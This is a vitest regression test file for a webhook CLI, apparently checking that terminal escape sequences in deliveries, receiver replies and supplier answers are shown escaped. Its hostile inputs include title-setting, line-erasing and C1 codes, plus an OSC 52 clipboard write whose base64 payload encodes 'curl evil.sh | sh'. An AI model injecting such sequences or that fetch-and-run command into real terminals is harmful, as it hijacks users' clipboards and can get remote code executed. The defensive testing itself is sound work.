import { type ChildProcess, execFile, spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { createServer, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { bookingUpdate, sendWebhook } from "@octo-webhooks/testing";
import { afterEach, describe, expect, it } from "vitest";

// Regression tests of "cli: terminal escapes": strings from deliveries, receivers and suppliers were
// printed as they are, so a body could set the window title, write the clipboard (OSC 52) or erase lines.

const CLI = join(import.meta.dirname, "..", "dist", "cli.js");
const TITLE = "\u001b]0;pwned\u0007";
const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
const ERASE = "\u001b[2K\u001b[1A\r";
const C1_CSI = "\u009b31m";
const HOSTILE = `${TITLE}${CLIPBOARD}${ERASE}${C1_CSI}`;
// any C0 control but the newline of our own lines, DEL, any C1 control
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

const closers: Array<() => Promise<unknown>> = [];
afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close();
});

/** Same environment as the user's, without colour (our own colours are escapes too) or OCTO settings. */
function env(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const base: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: "1" };
  for (const name of ["FORCE_COLOR", "OCTO_BASE_URL", "OCTO_API_KEY", "OCTO_ENV", "OCTO_CAPABILITIES"]) {
    delete base[name];
  }
  return { ...base, ...extra };
}

function cli(args: string[], extra: Record<string, string> = {}) {
  expect(existsSync(CLI), `${CLI} is missing: run \`pnpm build\` first`).toBe(true);
  return new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
    execFile(
      process.execPath,
      [CLI, ...args],
      { env: env(extra), timeout: 15_000 },
      (error, stdout, stderr) => {
        resolve({ code: error ? (typeof error.code === "number" ? error.code : 1) : 0, stdout, stderr });
      },
    );
  });
}

/** A real local HTTP server answering every request with `answer`. */
async function server(answer: (res: ServerResponse, path: string) => void): Promise<string> {
  const http = createServer((req, res) => {
    req.resume();
    req.on("end", () => answer(res, req.url ?? ""));
  });
  await new Promise<void>((resolve) => http.listen(0, "127.0.0.1", resolve));
  closers.push(
    () =>
      new Promise<void>((resolve) => {
        http.close(() => resolve());
        http.closeAllConnections();
      }),
  );
  return `http://127.0.0.1:${(http.address() as AddressInfo).port}`;
}

function expectNoControls(text: string) {
  expect(text).not.toMatch(CONTROL);
}

describe("cli: terminal escapes", () => {
  it("cli: terminal escapes in a delivery are shown escaped by `listen` (title, OSC 52 clipboard, erase line, C1)", async () => {
    expect(existsSync(CLI), `${CLI} is missing: run \`pnpm build\` first`).toBe(true);
    const child: ChildProcess = spawn(process.execPath, [CLI, "listen", "--port", "0"], {
      env: env(),
      stdio: ["ignore", "pipe", "pipe"],
    });
    const exited = new Promise((resolve) => child.once("exit", resolve));
    closers.push(async () => {
      if (child.exitCode === null && child.signalCode === null) child.kill("SIGTERM");
      await exited;
    });
    let stdout = "";
    let stderr = "";
    child.stdout?.on("data", (chunk: Buffer) => {
      stdout += chunk.toString("utf8");
    });
    child.stderr?.on("data", (chunk: Buffer) => {
      stderr += chunk.toString("utf8");
    });
    const until = async (pattern: RegExp) => {
      await expect.poll(() => stdout, { timeout: 10_000 }).toMatch(pattern);
      return stdout.match(pattern) as RegExpMatchArray;
    };
    const [, url] = await until(/Listening on (http:\/\/\S+)/);

    const body = bookingUpdate({ seed: "escapes" }) as unknown as { booking: Record<string, unknown> };
    body.booking.uuid = `b-1${TITLE}`;
    body.booking.status = `CONFIRMED${CLIPBOARD}`;
    body.booking.productId = `p-1${ERASE}${C1_CSI}`;
    expect((await sendWebhook(url as string, body)).status).toBe(200);
    // an event it does not model, named by the body
    const unknown = { webhook: { event: `transfer_update${TITLE}` }, transfer: {} };
    expect((await sendWebhook(url as string, unknown)).status).toBe(200);
    await until(/transfer_update/);

    expectNoControls(stdout);
    expectNoControls(stderr);
    expect(stdout).toContain("booking b-1\\x1b]0;pwned\\x07");
    expect(stdout).toContain("CONFIRMED\\x1b]52;c;");
    expect(stdout).toContain("product p-1\\x1b[2K\\x1b[1A\\r\\x9b31m");
    expect(stdout).toContain("transfer_update\\x1b]0;pwned\\x07");
  });

  it("cli: terminal escapes in a receiver's answer are shown escaped by `trigger`", async () => {
    const receiver = await server((res) =>
      res.writeHead(200, { "content-type": "text/plain" }).end(`ok${HOSTILE}\nline two`),
    );
    const ok = await cli(["trigger", "booking_update", "--to", `${receiver}/hooks`]);
    expect(ok.code).toBe(0);
    expectNoControls(ok.stdout);
    expectNoControls(ok.stderr);
    expect(ok.stdout).toContain("ok\\x1b]0;pwned\\x07\\x1b]52;c;");
    expect(ok.stdout).toContain("\\x9b31m\\nline two");

    const refusing = await server((res) => res.writeHead(500).end(`nope${HOSTILE}`));
    const failed = await cli(["trigger", "booking_update", "--to", `${refusing}/hooks`]);
    expect(failed.code).toBe(1);
    expectNoControls(failed.stdout);
    expectNoControls(failed.stderr);
    expect(failed.stdout).toContain("nope\\x1b]0;pwned");
  });

  it("cli: terminal escapes in a supplier's answers are shown escaped by `webhooks list` (table, --json, errors)", async () => {
    const hostileWebhook = {
      id: `w-1${TITLE}`,
      event: `booking_update${ERASE}`,
      url: `https://shop.example/hooks${C1_CSI}`,
      retryOnError: true,
      headers: { [`x-key${CLIPBOARD}`]: "v" },
    };
    const supplier = await server((res, path) => {
      if (path.startsWith("/ok/")) {
        res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify([hostileWebhook]));
      } else {
        res
          .writeHead(400, { "content-type": "application/json" })
          .end(JSON.stringify({ error: `BAD${TITLE}`, errorMessage: `no${CLIPBOARD}${ERASE}${C1_CSI}` }));
      }
    });
    const connection = { OCTO_API_KEY: "sk_escapes_test" };

    const table = await cli(["webhooks", "list", "--show-secrets"], {
      ...connection,
      OCTO_BASE_URL: `${supplier}/ok`,
    });
    expect(table.code).toBe(0);
    expectNoControls(table.stdout);
    expectNoControls(table.stderr);
    expect(table.stdout).toContain("w-1\\x1b]0;pwned\\x07");
    expect(table.stdout).toContain("booking_update\\x1b[2K");

    const json = await cli(["webhooks", "list", "--json"], {
      ...connection,
      OCTO_BASE_URL: `${supplier}/ok`,
    });
    expect(json.code).toBe(0);
    expectNoControls(json.stdout);
    // still JSON, with the same strings in it
    expect(JSON.parse(json.stdout)).toMatchObject([{ id: hostileWebhook.id, event: hostileWebhook.event }]);

    const failed = await cli(["webhooks", "list"], { ...connection, OCTO_BASE_URL: `${supplier}/fail` });
    expect(failed.code).toBe(1);
    expectNoControls(failed.stdout);
    expectNoControls(failed.stderr);
    expect(failed.stderr).toContain("no\\x1b]52;c;");
  });
});
